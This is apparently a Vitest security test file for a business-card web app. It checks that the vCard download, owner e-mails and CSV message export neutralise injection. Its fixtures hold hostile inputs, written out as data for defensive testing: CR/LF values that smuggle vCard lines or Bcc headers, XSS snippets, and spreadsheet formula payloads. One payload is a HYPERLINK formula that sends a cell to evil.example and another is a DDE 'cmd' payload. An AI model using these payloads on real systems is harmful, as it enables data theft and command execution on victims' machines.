import nodemailer from 'nodemailer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cards } from '#server/db/schema';
import { CARD_CONFIGURATION_FIELDS } from '#shared/schemas/cards';
import { createTestApp, type TestApp } from '../support/test-app';
import { databaseKinds } from '../support/test-database';
import { freshIp, send, storeLead } from './helpers';

// The three export channels: the vCard file, the owner's e-mail and the CSV of messages.
// (XSS in pages and script URLs are in injection.test.ts.)

const LINE_BREAKS = ['\r\n', '\n', '\r'];

/** A value of the field's kind that tries to add vCard lines (and a second card). */
function vcardInjection(field: string, nl: string): string {
  if (field === 'workAddressPostalCode') return `9${nl}X-INJECTED:1`;
  const lines = `${nl}X-INJECTED:1${nl}EMAIL:evil@x.example${nl}END:VCARD${nl}BEGIN:VCARD`;
  if (/Url\d?$/.test(field)) return `https://ok.example/${lines}`;
  if (/[eE]mail$/.test(field)) return `eve@ok.example${lines}`;
  if (/Phone|Fax/.test(field)) return `+1 555 0100${lines}`;
  return `Eve${lines}`;
}

const VCARD_PROPERTIES = new Set([
  ...['BEGIN', 'VERSION', 'N', 'FN', 'ORG', 'TITLE', 'ROLE', 'EMAIL', 'TEL', 'ADR', 'URL'],
  ...['NOTE', 'PHOTO', 'END'],
  // The labelled links (the Connect profile, the social links): `itemN.URL` + `itemN.X-ABLabel`.
  ...['ITEM.URL', 'ITEM.X-ABLABEL'],
]);

/** One card, only the app's own properties, every line ended by CRLF and nothing else. */
function expectOnlyOwnLines(body: string) {
  expect(body.endsWith('\r\n')).toBe(true);
  // A lone CR or LF is a line break to lenient importers.
  expect(body.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  const lines = body
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n')
    .slice(0, -1);
  expect(lines[0]).toBe('BEGIN:VCARD');
  expect(lines.at(-1)).toBe('END:VCARD');
  for (const line of lines) {
    const [, group, property] = /^(item\d+\.)?([A-Za-z-]+)[;:]/.exec(line) ?? [];
    const name = property ? `${group ? 'ITEM.' : ''}${property.toUpperCase()}` : line;
    expect(VCARD_PROPERTIES.has(name), line).toBe(true);
    // The address may survive inside an escaped value, never as an EMAIL value of its own.
    expect(line).not.toMatch(/^EMAIL[^:]*:evil@/i);
  }
  expect(lines.filter((line) => /^(BEGIN|END):/i.test(line))).toHaveLength(2);
}

/** RFC 4180 records of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      endCell();
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i += 1;
    } else {
      cell += ch;
    }
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe.each(databaseKinds)('injection into exports on %s', (kind) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(kind);
  });
  afterAll(() => t.close());

  const download = async (uuid: string) => {
    const response = await t.app.inject({ method: 'GET', url: `/api/vcard/${uuid}/download` });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
    return response.body;
  };

  it('keeps CR/LF sent to any configuration field from adding a vCard line', async () => {
    const owner = await t.subscribedOwner({ remoteAddress: freshIp() });
    const url = `/api/cards/${owner.card.id}/configuration`;
    for (const field of CARD_CONFIGURATION_FIELDS) {
      for (const nl of LINE_BREAKS) {
        const payload = { [field]: vcardInjection(field, nl) };
        const saved = await send(t, { method: 'PUT', url, payload }, owner.headers);
        expect(saved.statusCode, `${field}: ${saved.body}`).toBeLessThan(500);
        expectOnlyOwnLines(await download(owner.card.uuid));
        if (saved.statusCode === 200) {
          await send(t, { method: 'PUT', url, payload: { [field]: '' } }, owner.headers);
        }
      }
    }
  });

  it('keeps CR/LF already stored in every field (validation bypassed) inside its value', async () => {
    const owner = await t.subscribedOwner({ remoteAddress: freshIp() });
    for (const nl of LINE_BREAKS) {
      const values = Object.fromEntries(
        CARD_CONFIGURATION_FIELDS.map((field) => [field, vcardInjection(field, nl)]),
      );
      const [card] = await t.deps.database.db
        .insert(cards)
        .values({ ownerId: owner.user.id, shopifyProductTitle: 'Metal', ...values })
        .returning({ uuid: cards.uuid });
      const body = await download(card!.uuid);
      expectOnlyOwnLines(body);
      // The text survives as one escaped value rather than being dropped.
      expect(body.replace(/\r\n /g, '')).toContain(
        'TITLE:Eve\\nX-INJECTED:1\\nEMAIL:evil@x.example',
      );
    }
  });

  it("keeps a visitor's CR/LF out of the owner's mail headers", async () => {
    const owner = await t.subscribedOwner({ remoteAddress: freshIp() });
    const visitor = {
      name: 'Eve',
      email: 'eve@visitor.example',
      phone: '+1 555 0199',
      message: 'Hi',
    };
    const attempts = [
      { name: 'Eve\r\nBcc: victim@evil.example' },
      { name: 'Eve\nBcc: victim@evil.example' },
      { name: 'Eve\rBcc: victim@evil.example' },
      { name: 'Eve\r\n\r\n<h1>forged body</h1>' },
      { name: 'Eve\u2028Bcc: victim@evil.example' },
      { email: 'eve@visitor.example\r\nBcc: victim@evil.example' },
      { email: 'eve@visitor.example\nBcc: victim@evil.example' },
      { email: '"eve\r\nBcc: victim@evil.example"@visitor.example' },
      { email: 'eve@visitor.example>\r\nBcc: victim@evil.example' },
      { email: 'eve@visitor.example,victim@evil.example' },
      { email: 'eve@visitor.example victim@evil.example' },
      { phone: '+1 555\r\nBcc: victim@evil.example' },
      { name: '<img src=x onerror=alert(1)>', message: '<script>alert(1)</script>' },
      {}, // the control: a plain message that must arrive
    ];
    for (const attempt of attempts) {
      const response = await t.app.inject({
        method: 'POST',
        url: `/api/card-profiles/public/${owner.card.uuid}/send-message`,
        payload: { ...visitor, ...attempt },
        remoteAddress: freshIp(),
      });
      expect(response.statusCode, JSON.stringify(attempt)).toBeLessThan(500);
    }
    await t.deps.jobs.runOnce();
    const mails = t.mailbox.sent.filter((mail) => mail.to === owner.user.email);
    expect(mails.some((mail) => mail.subject === 'New message from Eve via Catalyst Connect')).toBe(
      true,
    );
    const composer = nodemailer.createTransport({ streamTransport: true, buffer: true });
    for (const mail of mails) {
      for (const header of [mail.to, mail.subject, mail.replyTo ?? '']) {
        expect(header).not.toMatch(/[\r\n]/);
      }
      expect(mail.replyTo).toMatch(/^[^\s,;<>"]+@[^\s,;<>"]+$/);
      expect(mail.html).not.toMatch(/<(img|script|h1)\b/i);
      const info = await composer.sendMail({ from: t.config.mailFrom, ...mail });
      const raw = (info.message as Buffer).toString('utf8');
      const head = raw.slice(0, raw.search(/\r?\n\r?\n/)).replace(/\r?\n[ \t]+/g, ' ');
      const names = head.split(/\r?\n/).map((line) => line.split(':')[0]!.toLowerCase());
      expect(names).not.toContain('bcc');
      expect(names).not.toContain('cc');
      for (const name of ['to', 'subject', 'reply-to']) {
        expect(names.filter((n) => n === name)).toHaveLength(1);
      }
      expect(head).not.toContain('victim@evil.example');
    }
  });

  it('neutralises spreadsheet formulas in every cell of the messages CSV', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const owner = await t.subscribedOwner({
      card: { firstName: formula, lastName: null },
      remoteAddress: freshIp(),
    });
    const hostile = [
      formula,
      "=cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '=1+1\r\n=2+2',
      '"=1+1","=2+2"',
    ];
    for (const [i, value] of hostile.entries()) {
      const text = (field: number) => (i + field) % hostile.length;
      await storeLead(t, owner.card.id, {
        name: hostile[text(0)]!,
        email: hostile[text(1)]!,
        phone: hostile[text(2)]!,
        message: value,
        // The lead's own fields (docs/product.md#messages) are cells too.
        company: hostile[text(3)]!,
        title: hostile[text(4)]!,
        note: hostile[text(5)]!,
        consentText: hostile[text(6)]!,
        source: hostile[text(7)]!,
      });
    }
    // And one through the form, as a visitor would send it.
    const sent = await t.app.inject({
      method: 'POST',
      url: `/api/card-profiles/public/${owner.card.uuid}/send-message`,
      payload: { name: 'Eve', email: '+1@visitor.example', phone: '+1 555', message: '=1+1' },
      remoteAddress: freshIp(),
    });
    expect(sent.statusCode).toBe(200);

    const response = await send(
      t,
      { method: 'GET', url: '/api/messages/export.csv' },
      owner.headers,
    );
    expect(response.statusCode).toBe(200);
    const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(hostile.length + 2);
    // Received, Card, Name, Email, Phone, Company, Title, Message, Status, Note, Consent,
    // Consented at, Source, Read, Event, Captured at (docs/product.md#messages).
    for (const row of rows) {
      expect(row).toHaveLength(16);
      for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Each message comes back whole, only marked as text.
    const messages = rows.slice(1).map((row) => row[7]!.replace(/^'(?=[=+\-@\t\r])/, ''));
    expect(new Set(messages)).toEqual(new Set([...hostile, '=1+1']));
    expect(rows[1]![1]).toBe(`'${formula}`);
  });
});
